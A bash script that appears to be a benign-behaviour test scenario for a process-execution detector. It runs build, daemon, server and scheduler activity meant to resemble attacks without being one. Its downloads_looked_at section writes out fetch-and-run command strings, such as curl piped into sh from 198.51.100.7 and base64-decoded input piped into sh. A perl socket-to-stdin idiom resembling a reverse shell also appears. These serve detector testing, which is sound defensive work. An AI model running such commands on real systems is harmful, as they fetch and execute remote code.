#!/bin/bash
# Honest work that resembles execution.sh in all but one thing: builds and packages run programs below /tmp, daemons
# talk to the network, servers start programs that are no shells, downloads are checked and not run.
. /usr/local/lib/scenario.sh
set -u

builds_and_packages_run_what_they_made() {
    local name
    for name in $BUILD_TOOLS $PACKAGE_MANAGERS; do
        act "$name" /tmp/conftest
    done
    perl -e 'link "/tmp/conftest", "/tmp/$_" for @ARGV' make dpkg
    /tmp/make
    /tmp/dpkg
}

programs_from_usual_places() {
    local dir
    for dir in /usr/local/bin /opt/tool /home/ann /srv /var/lib/tool; do
        mkdir -p "$dir"
        cp /bin/true "$dir/tool.tmp"
        "$dir/tool.tmp"
        rm "$dir/tool.tmp"
    done
}

to_v4='socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1)) or die;'

daemons_on_the_network() {
    # A daemon puts a connection on its standard streams, and hands it to a program that is no shell.
    perl_as inetd -e "$to_v4 syscall(33, fileno(S), \$_) for 0, 1, 2; exec '/usr/bin/id'"
    # A script moves a connection to another number, and a file to its standard input.
    perl_as python3 -e "$to_v4 syscall(33, fileno(S), 9); open(F, '</etc/hostname'); syscall(33, fileno(F), 0)"
    # A shell reads from a pipe and from a file.
    echo : | sh
    sh </etc/hostname 2>/dev/null
    # A connection is open in a shell, but not as its input.
    perl_as worker -e "$to_v4 \$^F = 20; syscall(33, fileno(S), 7); exec '/bin/sh', '-c', ':'"
}

servers_start_other_programs() {
    act nginx /usr/bin/true
    act php-fpm8.2 /usr/bin/date
    act postgres '/bin/sh -c :'
    act cron '/bin/sh -c :'
}

downloads_looked_at() {
    play bash -c 'curl -sO http://198.51.100.7/i'
    play bash -c 'curl -s http://198.51.100.7/i | sha256sum'
    play bash -c 'wget -qO- http://198.51.100.7/i >i'
    play bash -c 'cat list | sh'
    play bash -c 'diff <(sort a) <(sort b)'
    play bash -c 'base64 -d <key >key.bin'
    play bash -c 'openssl enc -d -aes128 -in a -out b'
    play editor -c 'curl -s http://198.51.100.7/i | sh; sh <(curl x); base64 -d x | sh'
    play editor -c 'exec b64decode'
    play python3 -c 'print(b64decode("aWQ="))'
    play python3 -c 'exec("print(1)")'
    act make '/usr/local/as/true/bash -c "curl -s http://198.51.100.7/i | sh"
        /usr/local/as/true/perl -e "eval decode_base64 1"'
}

queues_looked_at() {
    play at -l
    play at -r 3
    play at -c 3
    play atq
    local name
    for name in $SCHEDULERS; do
        act "$name" '/usr/local/as/true/at now'
    done
    play systemd-run --user true
    play systemd-run --scope true
    play systemctl start x
    act dpkg '/usr/local/as/true/systemd-run true'
}

cp /bin/true /tmp/conftest
builds_and_packages_run_what_they_made
programs_from_usual_places
daemons_on_the_network
servers_start_other_programs
downloads_looked_at
queues_looked_at
rm -rf /tmp/conftest /tmp/make /tmp/dpkg
